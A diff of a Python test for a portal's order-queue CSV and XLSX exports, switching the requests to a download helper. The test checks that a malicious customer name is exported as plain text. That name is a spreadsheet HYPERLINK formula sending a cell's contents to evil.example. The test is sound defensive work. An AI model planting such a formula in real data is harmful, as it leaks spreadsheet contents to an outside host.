@@ -11,6 +11,7 @@ from portal.console.exports import export_response, safe_cell
 from portal.demo.shop import load_demo
 from portal.orders.models import Order
 from tests.factories import ProductFactory, order_for
+from tests.portal.console.downloads import download
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -33,8 +34,8 @@ def test_order_queue_exports_neutralise_a_formula_name(client):
     Order.objects.filter(pk=order.pk).update(orderer_name=EVIL)
     client.force_login(User.objects.get(username="operator"))
     # when the operator exports the queue
-    text = client.get("/console/orders/", {"export": "csv"}).content.decode("utf-8-sig")
-    book = load_workbook(io.BytesIO(client.get("/console/orders/", {"export": "xlsx"}).content))
+    text = download(client, "/console/orders/", {"export": "csv"}).content.decode("utf-8-sig")
+    book = load_workbook(io.BytesIO(download(client, "/console/orders/", {"export": "xlsx"}).content))
     # then the name is text, not a formula, in both
     # (the name is masked in the export, 홍*동-style, and still starts with "=": it must be neutralised too)
     names = [row[2] for row in csv.reader(io.StringIO(text))]
